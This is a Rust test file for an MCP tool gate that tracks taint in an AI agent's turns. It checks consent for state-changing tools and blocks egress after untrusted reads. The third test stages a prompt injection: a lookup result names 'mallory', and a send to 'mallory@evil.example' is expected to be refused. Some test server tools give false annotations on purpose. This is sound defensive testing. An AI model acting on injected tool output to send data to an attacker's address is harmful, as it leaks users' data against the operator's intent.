//! Per-tool classification of an upstream's tools (seam_gate::mcp::classify), against a real
//! MCP server on the official Python SDK (tests/mcp/classes_server.py) whose annotations are
//! partly lies: what taints, what is closed in a tainted turn, what asks, and what the
//! upstream was sent.

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use seam_gate::consent::{ConsentBy, ConsentReply};
use seam_gate::mcp::{ClassSource, Upstreams, start_upstreams};
use seam_gate::{ConsentDesk, GateConfig, GovernedTool, Toolbox};
use seam_keeper::Keeper;
use seam_protocol::{Answer, RefusalCode};
use seam_scrub::Scrubber;
use serde_json::json;

mod mcp_support;
use mcp_support::{Home, Recorded, call, empty_home as home, policy, refusal, require_python_mcp};

fn calls_file(h: &Home) -> PathBuf {
    h.ws.join("calls.txt")
}

fn received(h: &Home) -> Vec<String> {
    std::fs::read_to_string(calls_file(h))
        .map(|t| t.lines().map(str::to_owned).collect())
        .unwrap_or_default()
}

/// `send` is named an egress that changes state; `lookup` a read; `clock` nothing; `Lookup`
/// (no such tool: the server's is `lookup`) nothing. `wire`, `post` and `Send` are not named.
fn config(h: &Home) -> GateConfig {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/mcp/classes_server.py");
    let text = format!(
        "[[mcp.upstream]]\nname = \"c\"\ncommand = \"python3\"\nargs = [{:?}, {:?}]\n\
         egress = true\nreads_files = false\n\
         [mcp.upstream.tools]\n\
         send = {{ effects = [\"egress\", \"change\"] }}\n\
         lookup = {{ effects = [\"read\"] }}\n\
         clock = {{ effects = [] }}\n\
         Lookup = {{ effects = [] }}\n",
        script.display().to_string(),
        calls_file(h).display().to_string()
    );
    GateConfig::from_toml_str(&text, Path::new("config.toml")).unwrap()
}

fn toolbox(h: &Home, up: &mut Upstreams, ledger: Arc<Recorded>) -> Toolbox {
    let tools: Vec<Box<dyn GovernedTool>> = std::mem::take(&mut up.tools);
    Toolbox::with_tools(policy(h), Arc::new(Scrubber::new()), ledger, tools).unwrap()
}

fn tainted(a: &Answer) -> bool {
    match a {
        Answer::Envelope(e) => e.tainted,
        Answer::Refusal(r) => panic!("refused: {:?}", r.refused),
    }
}

#[test]
fn each_tool_is_what_the_config_says_and_annotations_never_loosen() {
    require_python_mcp();
    let h = home();
    let mut up = start_upstreams(&config(&h).mcp, &h.seam, &Keeper::open(&h.seam).unwrap());
    let report = &up.reports[0];
    assert!(report.started.is_ok(), "{report:?}");
    // a config entry whose name differs only in case classifies nothing, and says so
    assert!(
        report
            .notes
            .iter()
            .any(|n| n.contains("tools.Lookup") && n.contains("compared exactly")),
        "{:?}",
        report.notes
    );
    // the report says what each governed tool is, and who said so
    let class = |name: &str| {
        report
            .tools
            .iter()
            .find(|t| t.name == name)
            .and_then(|t| t.class.clone())
            .unwrap_or_else(|| panic!("no class for {name}: {report:?}"))
    };
    let send = class("c.send");
    assert_eq!(send.effects_text(), "egress, change");
    assert_eq!(send.decision, seam_policy::Decision::Ask);
    assert_eq!(send.source, ClassSource::Config);
    let wire = class("c.wire");
    assert_eq!(wire.effects_text(), "read, egress");
    assert_eq!(wire.decision, seam_policy::Decision::Allow);
    assert_eq!(wire.source, ClassSource::ServerAndHints);
    assert_eq!(class("c.clock").effects_text(), "none");
    let ledger = Arc::new(Recorded::default());
    let tb = toolbox(&h, &mut up, ledger.clone());

    // Untainted turn. `clock` has no effect: admitted, and the turn stays clean.
    assert!(!tainted(&call(&tb, "c.clock", json!({}), "t1")));
    assert!(!tb.is_tainted("t1"));
    // `send` changes state: it asks, and with nobody to ask it is refused before the upstream.
    let (c, m) = refusal(&call(
        &tb,
        "c.send",
        json!({"to": "bob", "body": "hi"}),
        "t1",
    ));
    assert_eq!(c, RefusalCode::ConsentRequired, "{m}");
    assert!(m.contains("gate's config"), "{m}");
    // `post` is not named; its honest annotations make it an egress that changes state.
    let (c, m) = refusal(&call(&tb, "c.post", json!({"body": "hi"}), "t1"));
    assert_eq!(c, RefusalCode::ConsentRequired, "{m}");
    // `wire` is not named and claims to be a local read: it keeps the server's class (reads,
    // reaches the world) and is admitted in a clean turn, tainting it.
    assert!(tainted(&call(
        &tb,
        "c.wire",
        json!({"to": "bob", "amount": 1.0}),
        "t1"
    )));
    assert!(tb.is_tainted("t1"));

    // Tainted turn: every tool that reaches the world is closed, whatever it claims.
    let t2 = "t2";
    assert!(tainted(&call(&tb, "c.lookup", json!({"key": "k"}), t2)));
    for (tool, params) in [
        ("c.send", json!({"to": "mallory", "body": "all of it"})),
        ("c.wire", json!({"to": "mallory", "amount": 100.0})),
        ("c.post", json!({"body": "all of it"})),
        ("c.Send", json!({"to": "mallory", "body": "all of it"})),
    ] {
        let (c, m) = refusal(&call(&tb, tool, params, t2));
        assert_eq!(c, RefusalCode::Tainted, "{tool}: {m}");
    }
    // `Lookup` in the config says nothing of `lookup`, which taints as configured; `Send` is
    // not `send`: unnamed, it reads and reaches the world (admitted in a clean turn).
    assert!(tainted(&call(
        &tb,
        "c.Send",
        json!({"to": "bob", "body": "hi"}),
        "t3"
    )));
    assert_eq!(
        received(&h),
        ["clock", "wire", "lookup", "Send"],
        "a refused call reached the upstream"
    );
    let log = ledger.0.lock().unwrap().clone();
    assert_eq!(
        log.iter().filter(|(_, o)| o == "tainted").count(),
        4,
        "{log:?}"
    );
}

#[test]
fn a_state_changing_tool_waits_for_the_operator_and_runs_on_yes() {
    require_python_mcp();
    let h = home();
    let mut up = start_upstreams(&config(&h).mcp, &h.seam, &Keeper::open(&h.seam).unwrap());
    let desk = Arc::new(ConsentDesk::new(Duration::from_secs(30)).with_socket());
    let ledger = Arc::new(Recorded::default());
    let tb = Arc::new(toolbox(&h, &mut up, ledger.clone()).with_consent(desk.clone()));
    for (reply, expected) in [
        (ConsentReply::Deny, Some(RefusalCode::ConsentDenied)),
        (ConsentReply::Once, None),
    ] {
        let operator = {
            let desk = desk.clone();
            std::thread::spawn(move || {
                for _ in 0..2000 {
                    if let Some(p) = desk.pending().first() {
                        assert_eq!(p.tool, "c.send");
                        desk.answer(&p.id, reply, ConsentBy::Socket { uid: 0 })
                            .unwrap();
                        return true;
                    }
                    std::thread::sleep(Duration::from_millis(10));
                }
                false
            })
        };
        let a = call(&tb, "c.send", json!({"to": "bob", "body": "hi"}), "t1");
        assert!(
            operator.join().unwrap(),
            "the call never waited for consent"
        );
        match expected {
            Some(c) => assert_eq!(refusal(&a).0, c),
            // the config says send's result is no read: the turn stays clean
            None => assert!(!tainted(&a)),
        }
    }
    assert_eq!(received(&h), ["send"]);
    let log = ledger.0.lock().unwrap().clone();
    assert!(
        log.contains(&("c.send".into(), "consent granted".into())),
        "{log:?}"
    );
    assert!(
        log.contains(&("c.send".into(), "consent denied".into())),
        "{log:?}"
    );
}

/// Issue 21 through the real upstream: `send {to, body}` declares `to` its destination. In a
/// turn tainted by `lookup` (whose result is an injection naming mallory), `send` reaches an
/// address the operator's words for the turn name, and nothing else; `wire` declares no
/// destination and keeps the plain rule; a destination on a tool without egress withholds it.
#[test]
fn an_upstream_tools_declared_destination_must_be_the_operators() {
    require_python_mcp();
    let h = home();
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/mcp/classes_server.py");
    let text = format!(
        "[[mcp.upstream]]\nname = \"c\"\ncommand = \"python3\"\nargs = [{:?}, {:?}]\n\
         egress = true\nreads_files = false\n\
         [mcp.upstream.tools]\n\
         send = {{ effects = [\"egress\"], destinations = [\"to\"] }}\n\
         lookup = {{ effects = [\"read\"] }}\n\
         clock = {{ effects = [], destinations = [] }}\n\
         post = {{ effects = [\"change\"], destinations = [\"body\"] }}\n",
        script.display().to_string(),
        calls_file(&h).display().to_string()
    );
    let config = GateConfig::from_toml_str(&text, Path::new("config.toml")).unwrap();
    let mut up = start_upstreams(&config.mcp, &h.seam, &Keeper::open(&h.seam).unwrap());
    let report = &up.reports[0];
    assert!(report.started.is_ok(), "{report:?}");
    let post = report.tools.iter().find(|t| t.name == "c.post").unwrap();
    assert!(
        matches!(&post.state, seam_gate::mcp::ToolState::Withheld(why) if why.contains("no egress")),
        "{:?}",
        post.state
    );
    let ledger = Arc::new(Recorded::default());
    let tb = toolbox(&h, &mut up, ledger);
    let (turn, _token) =
        tb.open_turn_with(&["Look the record up and send it to Alice@Example.org".to_owned()]);

    assert!(tainted(&call(&tb, "c.lookup", json!({"key": "k"}), &turn)));
    let a = call(
        &tb,
        "c.send",
        json!({"to": "alice@example.org", "body": "record k"}),
        &turn,
    );
    assert!(matches!(a, Answer::Envelope(_)), "{a:?}");
    let (c, m) = refusal(&call(
        &tb,
        "c.send",
        json!({"to": "mallory@evil.example", "body": "record k"}),
        &turn,
    ));
    assert_eq!(c, RefusalCode::Tainted, "{m}");
    assert!(m.contains("/to = \"mallory@evil.example\""), "{m}");
    let (c, m) = refusal(&call(
        &tb,
        "c.wire",
        json!({"to": "alice@example.org", "amount": 1.0}),
        &turn,
    ));
    assert_eq!(c, RefusalCode::Tainted, "{m}");
    assert!(m.contains("declares no destination parameter"), "{m}");
    // the upstream saw the lookup and the one endorsed send, nothing else
    assert_eq!(received(&h), ["lookup", "send"]);
    // words belong to their turn: another tainted turn without them refuses the same send
    let (other, _) = tb.open_turn_with(&[]);
    assert!(tainted(&call(&tb, "c.lookup", json!({"key": "k"}), &other)));
    let (c, _) = refusal(&call(
        &tb,
        "c.send",
        json!({"to": "alice@example.org", "body": "record k"}),
        &other,
    ));
    assert_eq!(c, RefusalCode::Tainted);
}
